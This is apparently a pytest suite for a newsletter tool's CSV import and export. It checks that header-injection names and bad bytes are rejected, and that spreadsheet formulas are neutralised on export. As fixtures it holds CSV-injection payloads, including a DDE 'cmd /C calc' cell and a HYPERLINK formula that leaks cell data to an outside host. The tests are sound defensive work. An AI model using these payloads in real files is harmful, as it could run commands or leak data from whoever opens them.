"""Bad CSV input at import, and spreadsheet formulas at export, on SQLite and
PostgreSQL (the ``session`` fixture runs both).

What a comms officer sees: every row that cannot be used is named by its line
and column with what to do; the good rows around it are imported; nothing
that would later fail at send time gets in.
"""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import delete, select

from newsletter.audience import csv_export, csv_import
from newsletter.audience import subscribers as subs
from newsletter.store.models import Membership, Subscriber
from tests.audience.lists import memberships, write_csv


def stored(session) -> dict[str, str]:
    return dict(session.execute(select(Subscriber.email, Subscriber.name)).all())


def problems_by_line(report) -> dict[int, str]:
    return {problem.line: problem.message for problem in report.problems}


# -- names that would break a header -----------------------------------------


@pytest.mark.parametrize(
    "cell, shown",
    [
        ('"Ann\r\nBcc: all@example.net"', "U+000D CARRIAGE RETURN"),
        ('"Ann\nBcc: all@example.net"', "U+000A LINE FEED"),
        ('"Ann\rBcc: all@example.net"', "U+000D CARRIAGE RETURN"),
        ("Ann\u2028Bcc: all@example.net", "U+2028 LINE SEPARATOR"),
        ("Ann\u2029Bcc: all@example.net", "U+2029 PARAGRAPH SEPARATOR"),
        ("Ann\x85Bcc: all@example.net", "U+0085 NEXT LINE"),
        ("Ann\x0bBcc: all@example.net", "U+000B LINE TABULATION"),
        ("Ann\x0cBcc: all@example.net", "U+000C FORM FEED"),
        ("=?utf-8?q?Ann=0D=0ABcc:_all@example.net?=", "encoded word"),
        ("=?utf-8?b?QW5uDQpCY2M6IGFsbEBleGFtcGxlLm5ldA==?=", "encoded word"),
        ("Ann%0d%0aBcc: all@example.net", "encoded line break"),
    ],
)
def test_a_name_with_a_line_break_is_rejected_with_its_line(session, monthly, tmp_path, cell, shown):
    path = write_csv(tmp_path, f"email,name\nbefore@example.com,Before\nann@example.com,{cell}\nafter@example.com,After\n")

    report = csv_import.import_csv(session, path, ["monthly"])

    assert (report.added, report.rejected) == (2, 1)
    [problem] = report.problems
    assert (problem.where, problem.line, problem.column) == (f"{path}:3", 3, "name")
    assert shown in problem.message and "one line" in problem.fix
    assert stored(session) == {"before@example.com": "Before", "after@example.com": "After"}


def test_import_and_sign_up_refuse_the_same_names(session, monthly, tmp_path):
    """One check for both ways in: what sign-up refuses, import refuses, and the reverse."""
    from newsletter.errors import InputError
    from newsletter.audience.signup import checked_name

    names = ["Ann\tLee", "Ann\u2028Lee", "=?utf-8?q?Ann?=", "Ann Lee", "Zoë O'Brien", "x" * 201]
    path = write_csv(tmp_path, "email,name\n" + "".join(f"p{n}@example.com,{name}\n" for n, name in enumerate(names)))

    report = csv_import.import_csv(session, path, ["monthly"])

    rejected_by_import = {line - 2 for line in problems_by_line(report)}
    rejected_by_signup = set()
    for n, name in enumerate(names):
        try:
            checked_name(name)
        except InputError:
            rejected_by_signup.add(n)
    assert rejected_by_import == rejected_by_signup == {1, 2, 5}


def test_a_tab_inside_a_name_is_read_as_a_space(session, monthly, tmp_path):
    path = write_csv(tmp_path, "email,name\nann@example.com,\"Ann\tLee\"\nbo@example.com,Bo\t\tKing\t\n")

    report = csv_import.import_csv(session, path, ["monthly"])

    assert (report.added, report.rejected) == (2, 0)
    assert stored(session) == {"ann@example.com": "Ann Lee", "bo@example.com": "Bo King"}


def test_the_cli_add_refuses_a_name_with_a_line_break(session, monthly):
    from newsletter.errors import InputError

    with pytest.raises(InputError, match="LINE SEPARATOR"):
        subs.add_subscriber(session, "ann@example.com", "Ann\u2028Bcc: all@example.net", ["monthly"])
    assert stored(session) == {}


# -- a text stream, not only a file -------------------------------------------


def test_a_text_stream_imports_as_its_file_does_and_problems_carry_its_name(session, monthly, tmp_path):
    text = "\ufeffEmail,Name\r\nann@example.com,Ann\r\nnot-an-address,Bo\r\n\"=cal@example.com\",Cal\r\n"

    report = csv_import.import_csv(session, io.StringIO(text, newline=""), ["monthly"], name="people.csv")

    assert (report.path, report.added, report.rejected) == ("people.csv", 2, 1)
    assert [(p.where, p.column) for p in report.problems] == [("people.csv:3", "email")]
    assert stored(session) == {"ann@example.com": "Ann", "=cal@example.com": "Cal"}
    path = write_csv(tmp_path, text.removeprefix("\ufeff"))
    with path.open(encoding="utf-8", newline="") as opened:  # a stream names itself
        again = csv_import.import_csv(session, opened, ["monthly"])
    assert (again.path, again.unchanged, again.rejected) == (str(path), 2, 1)


def test_a_stream_that_is_not_utf8_is_named_as_such(session, monthly, tmp_path):
    from newsletter.errors import InputError

    path = tmp_path / "people.csv"
    path.write_bytes("email,name\nr@example.com,Ren\xe9e\n".encode("latin-1"))

    with path.open(encoding="utf-8", newline="") as opened, pytest.raises(InputError, match="not UTF-8") as raised:
        csv_import.import_csv(session, opened, ["monthly"])

    assert raised.value.problems[0].where == str(path) and "CSV UTF-8" in raised.value.problems[0].fix
    assert stored(session) == {}


# -- NUL bytes ---------------------------------------------------------------


def test_a_nul_byte_rejects_its_row_by_line_and_column_and_keeps_the_others(session, monthly, tmp_path):
    path = tmp_path / "people.csv"
    path.write_bytes(
        b"email,name,team\n"
        b"one@example.com,One,Ops\n"
        b"two@example.com,T\x00wo,Ops\n"
        b"three@example.com,Three,O\x00ps\n"
        b"fo\x00ur@example.com,Four,Ops\n"
        b"five@example.com,Five,Ops\n"
    )

    report = csv_import.import_csv(session, path, ["monthly"])
    session.flush()

    assert (report.added, report.rejected) == (2, 3)
    assert [(p.line, p.column) for p in report.problems] == [(3, "name"), (4, "team"), (5, "email")]
    assert all("NUL" in p.message for p in report.problems)
    assert stored(session) == {"one@example.com": "One", "five@example.com": "Five"}


def test_a_utf16_file_without_a_byte_order_mark_is_named_as_such(session, monthly, tmp_path):
    from newsletter.errors import InputError

    path = tmp_path / "people.csv"
    path.write_bytes("email,name\none@example.com,One\n".encode("utf-16-le"))

    with pytest.raises(InputError, match="NUL") as raised:
        csv_import.import_csv(session, path, ["monthly"])

    assert raised.value.problems[0].where == f"{path}:1" and "CSV UTF-8" in raised.value.problems[0].fix
    assert stored(session) == {}


# -- quotes left open --------------------------------------------------------


def good_rows(first: int, count: int) -> str:
    return "".join(f"reader{n}@example.com,Reader {n}\n" for n in range(first, first + count))


def test_a_quote_never_closed_is_named_and_the_rows_after_it_are_kept(session, monthly, tmp_path):
    path = write_csv(tmp_path, "email,name\n" + good_rows(0, 3) + 'open@example.com,"Smith, Jo\n' + good_rows(3, 1000))

    report = csv_import.import_csv(session, path, ["monthly"])

    assert (report.added, report.rejected) == (1003, 1)
    [problem] = report.problems
    assert (problem.line, problem.column) == (5, "name")
    assert 'quote (")' in problem.message and "never closed" in problem.message
    assert "two" in problem.fix
    assert "open@example.com" not in stored(session)
    assert stored(session)["reader1002@example.com"] == "Reader 1002"


def test_a_quote_opened_on_the_last_line_is_named_too(session, monthly, tmp_path):
    path = write_csv(tmp_path, "email,name\n" + good_rows(0, 2) + 'last@example.com,"Jo\n')

    report = csv_import.import_csv(session, path, ["monthly"])

    assert [(p.line, p.column) for p in report.problems] == [(4, "name")]
    assert "never closed" in report.problems[0].message
    assert report.added == 2


def test_a_quote_closed_lines_later_is_named_with_both_lines(session, monthly, tmp_path):
    text = ("email,name,team\n" + "a@example.com,A,Ops\n" + 'b@example.com,B,"Ops\n'
            + "c@example.com,C,Ops\n" + 'd@example.com,D,"Finance"\n' + "e@example.com,E,Ops\n")
    path = write_csv(tmp_path, text)

    report = csv_import.import_csv(session, path, ["monthly"])

    assert problems_by_line(report).keys() == {3}
    assert "closed only on line 5" in report.problems[0].message and report.problems[0].column == "team"
    assert sorted(stored(session)) == ["a@example.com", "c@example.com", "d@example.com", "e@example.com"]
    assert subs.get_subscriber(session, "d@example.com").attributes == {"team": "Finance"}


def test_a_quoted_value_over_several_lines_is_still_one_value(session, monthly, tmp_path):
    path = write_csv(tmp_path, 'email,name,address\na@example.com,A,"1 Example Street\nExample Town"\nb@example.com,B,\n')

    report = csv_import.import_csv(session, path, ["monthly"])

    assert (report.added, report.rejected) == (2, 0)
    assert subs.get_subscriber(session, "a@example.com").attributes == {"address": "1 Example Street\nExample Town"}


def test_a_quote_open_past_the_csv_field_limit_is_named_too(session, monthly, tmp_path):
    path = write_csv(tmp_path, 'email,name\nopen@example.com,"Jo\n' + "x" * 200_000 + "\n" + good_rows(0, 2))

    report = csv_import.import_csv(session, path, ["monthly"])

    assert report.problems[0].line == 2 and 'quote (")' in report.problems[0].message
    assert {"reader0@example.com", "reader1@example.com"} <= set(stored(session))


# -- the problems file -------------------------------------------------------


def test_write_problems_lists_every_problem_with_line_and_column(session, monthly, tmp_path):
    rows = "".join(f"bad{n}.example.com,Reader {n}\n" for n in range(120))
    path = write_csv(tmp_path, "email,name\n" + rows + "=cmd@example.com,=HYPERLINK(\"http://example.net\")\n"
                     + "=cmd@example.com,Again\n")
    report = csv_import.import_csv(session, path, ["monthly"])
    out = tmp_path / "problems.csv"

    assert csv_import.write_problems(report, out) == 121

    written = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [row["line"] for row in written] == [str(n) for n in range(2, 122)] + ["123"]
    assert {row["column"] for row in written} == {"email"}
    assert all(row["severity"] == "error" and row["problem"] and row["what to do"] for row in written)
    # A reason quotes what was in the file: it is made safe for a spreadsheet too.
    assert written[-1]["problem"].startswith("'=cmd@example.com is also on line 122")


# -- spreadsheet formulas at export --------------------------------------------

FORMULAS = {
    "=cmd@example.com": '=HYPERLINK("http://example.net/?x="&A1,"Click")',
    "+plus@example.com": "+cmd|' /C calc'!A0",
    "-minus@example.com": "-2+3",
    "at@example.com": "@SUM(1+1)",
    "quoted@example.com": "'=already quoted",
    "plain@example.com": "Plain Name, with 'quotes'",
}


def test_export_neutralises_formulas_and_imports_back_the_same(session, monthly, tmp_path):
    for email, name in FORMULAS.items():
        subs.add_subscriber(session, email, name, ["monthly"], {"note": "\t=1+1" if email == "at@example.com" else "ok"})
    exported = tmp_path / "export.csv"

    assert csv_export.export_csv(session, exported) == len(FORMULAS)

    cells = [cell for row in csv.reader(exported.open(encoding="utf-8", newline="")) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_email = {row["email"]: row for row in csv.DictReader(exported.open(encoding="utf-8", newline=""))}
    assert by_email["'=cmd@example.com"]["name"] == "'" + FORMULAS["=cmd@example.com"]
    assert by_email["'+plus@example.com"]["name"] == "'+cmd|' /C calc'!A0"
    assert by_email["at@example.com"]["note"] == "'\t=1+1"
    assert by_email["quoted@example.com"]["name"] == "''=already quoted"
    assert by_email["plain@example.com"]["name"] == FORMULAS["plain@example.com"]

    session.execute(delete(Membership))  # an empty install, the file imported there
    session.execute(delete(Subscriber))
    report = csv_import.import_csv(session, exported, [])

    assert (report.added, report.rejected) == (len(FORMULAS), 0)
    assert stored(session) == FORMULAS
    assert subs.get_subscriber(session, "at@example.com").attributes == {"note": "\t=1+1"}


def test_an_export_to_a_stream_is_neutralised_too(session, monthly):
    subs.add_subscriber(session, "one@example.com", "@SUM(A1:A9)", ["monthly"], {"=team": "=1"})
    out = io.StringIO()

    csv_export.export_csv(session, out)

    assert out.getvalue().splitlines() == ["email,name,lists,'=team", "one@example.com,'@SUM(A1:A9),monthly,'=1"]


# -- one export for the file and the console's download -------------------------


def test_an_export_over_several_pages_keeps_each_persons_lists_and_fields(session, monthly, monkeypatch):
    monkeypatch.setattr(csv_export, "EXPORT_PAGE", 2)
    for n in range(5):
        lists = ["monthly", "staff"] if n % 2 else ["monthly"]
        subs.add_subscriber(session, f"p{n}@example.com", f"P {n}", lists, {"team": f"T{n}"} if n == 4 else {})
    subs.add_subscriber(session, "staff-only@example.com", "S", ["staff"])
    out = io.StringIO()

    assert csv_export.export_csv(session, out, "monthly", publication_slug="together") == 5

    assert out.getvalue().splitlines() == [
        "email,name,lists,team", "p0@example.com,P 0,monthly,", "p1@example.com,P 1,monthly,",
        "p2@example.com,P 2,monthly,", "p3@example.com,P 3,monthly,", "p4@example.com,P 4,monthly,T4",
    ]
    everyone = io.StringIO()
    assert csv_export.export_csv(session, everyone) == 6
    assert everyone.getvalue().splitlines()[2] == "p1@example.com,P 1,monthly;staff,"


def test_the_consoles_download_of_a_list_is_the_export_of_it_a_page_at_a_time(session, monthly, monkeypatch):
    from newsletter.errors import InputError
    from newsletter.store.publications import get_publication

    monkeypatch.setattr(csv_export, "EXPORT_PAGE", 2)
    for n, (email, name) in enumerate(FORMULAS.items()):
        subs.add_subscriber(session, email, name, ["monthly", "staff"] if n % 2 else ["monthly"], {"note": f"={n}"})
    subs.add_subscriber(session, "left@example.com", "Left", ["monthly"])
    subs.unsubscribe(session, "left@example.com")
    written = io.StringIO()
    csv_export.export_csv(session, written, "monthly", publication_slug="together")

    pieces = csv_export.list_export(session, get_publication(session, "together"), "monthly")

    assert [piece.count("\n") for piece in pieces] == [1, 2, 2, 2]  # the header, then a piece per page
    assert "".join(csv_export.list_export(session, get_publication(session, "together"), "monthly")) == written.getvalue()
    with pytest.raises(InputError, match="together has no list 'weekly'"):
        csv_export.list_export(session, get_publication(session, "together"), "weekly")  # before the first page


# -- chunks written at once (one statement a chunk on PostgreSQL) --------------


def test_a_file_of_several_chunks_is_stored_alike_on_both_databases(session, monthly, tmp_path):
    from datetime import datetime, timedelta, timezone

    from newsletter.audience.suppressions import add_suppression

    # Values JSON and SQL are particular about, in names and custom fields.
    awkward = ['Zoë "Zed" O\'Brien', "back\\slash", "comma, inside", "emoji 🎉", "ünïcödé ß", "semi;colon", "'=quoted formula"]
    lines = ["email,name,lists,team,note"]
    for n in range(2_345):  # more than two chunks of 1,000
        lines.append(f'Reader{n:05d}@Example.COM,"{awkward[n % len(awkward)].replace(chr(34), chr(34) * 2)}",staff,'
                     f'Team {n % 3},"{awkward[(n + 1) % len(awkward)].replace(chr(34), chr(34) * 2)}"')
    lines.append("reader00007@example.com,Again,,,")  # the same person as line 9
    lines.append("INFO@Example.org,Role,,,")  # the validator lower-cases role mailboxes
    lines.append("jörg@bücher.example,Jörg,,,")
    subs.add_subscriber(session, "reader00003@example.com", "Kept", ["monthly"], attributes={"team": "Old", "x": "1"})
    add_suppression(session, "reader00004@example.com", "complaint", "test")
    before = datetime.now(timezone.utc)

    report = csv_import.import_csv(session, write_csv(tmp_path, "\n".join(lines) + "\n"), ["monthly"], "together")

    assert (report.added, report.updated, report.unchanged, report.not_resubscribed, report.rejected) == (2_345, 1, 0, 1, 1)
    assert problems_by_line(report)[2_347] == "reader00007@example.com is also on line 9"
    rows = {row.email: row for row in session.execute(select(Subscriber)).scalars()}
    assert len(rows) == 2_345 + 2 - 1  # the suppressed address is not added
    ann = rows["Reader00010@example.com"]  # local part as typed, domain lower-cased
    assert (ann.email_key, ann.name, ann.status, ann.source) == ("reader00010@example.com", awkward[10 % 7], "active", "import")
    assert ann.attributes == {"team": "Team 1", "note": awkward[11 % 7]}
    assert before - timedelta(seconds=1) <= ann.created_at <= datetime.now(timezone.utc)
    assert ann.created_at.tzinfo is not None and ann.updated_at == ann.created_at
    assert rows["info@example.org"].name == "Role" and rows["jörg@bücher.example"].name == "Jörg"
    kept = subs.get_subscriber(session, "reader00003@example.com")
    assert (kept.name, kept.attributes) == (awkward[3], {"team": "Team 0", "x": "1", "note": awkward[4]})  # the file wins
    assert memberships(session, "Reader00010@example.com") == {"monthly": "confirmed", "staff": "confirmed"}
    assert memberships(session, "info@example.org") == {"monthly": "confirmed"}
    assert session.scalar(select(Membership.id).where(Membership.status != "confirmed")) is None
    assert "reader00004@example.com" not in {key.lower() for key in rows}

    again = csv_import.import_csv(session, write_csv(tmp_path, "\n".join(lines) + "\n"), ["monthly"], "together")
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2_345 + 2 - 1)


# -- addresses the publication's transport can never deliver -------------------------


def test_an_address_the_transport_can_never_deliver_is_rejected_with_the_reason(session, monthly, tmp_path, settings):
    from dataclasses import replace

    path = write_csv(tmp_path, "email,name\njörg@example.org,Jörg\njo@bücher.example,Jo\nann@example.com,Ann\n")

    by_ses = csv_import.import_csv(session, path, ["monthly"], settings=replace(settings, transport="ses"))

    assert (by_ses.added, by_ses.rejected) == (2, 1)
    [problem] = by_ses.problems
    assert (problem.line, problem.column) == (2, "email")
    assert "jörg@example.org has letters beyond ASCII before the @, and Amazon SES cannot send" in problem.message
    assert "SMTPUTF8" in problem.fix
    assert set(stored(session)) == {"jo@bücher.example", "ann@example.com"}

    by_smtp = csv_import.import_csv(session, path, ["monthly"], settings=replace(settings, transport="smtp"))
    assert (by_smtp.added, by_smtp.rejected) == (1, 0)  # SMTP can, where the server offers SMTPUTF8
